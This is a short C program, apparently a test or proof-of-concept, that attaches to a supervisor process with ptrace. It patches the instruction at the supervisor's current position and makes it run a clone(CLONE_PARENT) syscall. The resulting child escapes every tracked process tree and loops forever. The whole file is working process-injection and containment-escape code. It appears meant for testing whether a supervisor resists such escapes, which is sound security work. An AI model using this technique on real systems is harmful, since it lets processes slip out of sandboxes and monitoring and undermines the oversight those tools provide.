/* Makes a child of the supervisor's parent, outside of every tree: injects clone(CLONE_PARENT) into the supervisor.
 *
 * Prints the outcome: "not traced", or the pid of a process that counts in /dev/shm/counter forever.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <elf.h>

static long call(pid_t pid, struct user_regs_struct saved, long number, long first, long second)
{
	struct user_regs_struct regs = saved;
	struct iovec area = {&regs, sizeof(regs)};
	int status;

	regs.rax = number, regs.orig_rax = -1, regs.rdi = first, regs.rsi = second;
	regs.rdx = regs.r10 = regs.r8 = regs.r9 = 0;
	ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &area);
	ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
	waitpid(pid, &status, __WALL);
	ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &area);
	return regs.rax;
}

int main(int argc, char **argv)
{
	pid_t victim = atoi(argv[argc - 1]);
	struct user_regs_struct saved;
	struct iovec area = {&saved, sizeof(saved)};
	unsigned long words;
	long child;
	int status;

	if (ptrace(PTRACE_SEIZE, victim, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, victim, 0, 0) < 0) {
		printf("not traced: %s\n", strerror(errno));
		return 0;
	}
	waitpid(victim, &status, __WALL);
	ptrace(PTRACE_GETREGSET, victim, NT_PRSTATUS, &area);
	words = ptrace(PTRACE_PEEKTEXT, victim, saved.rip, 0);
	/* syscall; jmp . : the child loops, the victim is restored. */
	ptrace(PTRACE_POKETEXT, victim, saved.rip, (words & ~0xffffffffUL) | 0xfeeb050fUL);
	child = call(victim, saved, SYS_clone, CLONE_PARENT | SIGCHLD, 0);
	ptrace(PTRACE_POKETEXT, victim, saved.rip, words);
	ptrace(PTRACE_SETREGSET, victim, NT_PRSTATUS, &area);
	ptrace(PTRACE_DETACH, victim, 0, 0);
	printf("child %ld\n", child);
	return 0;
}
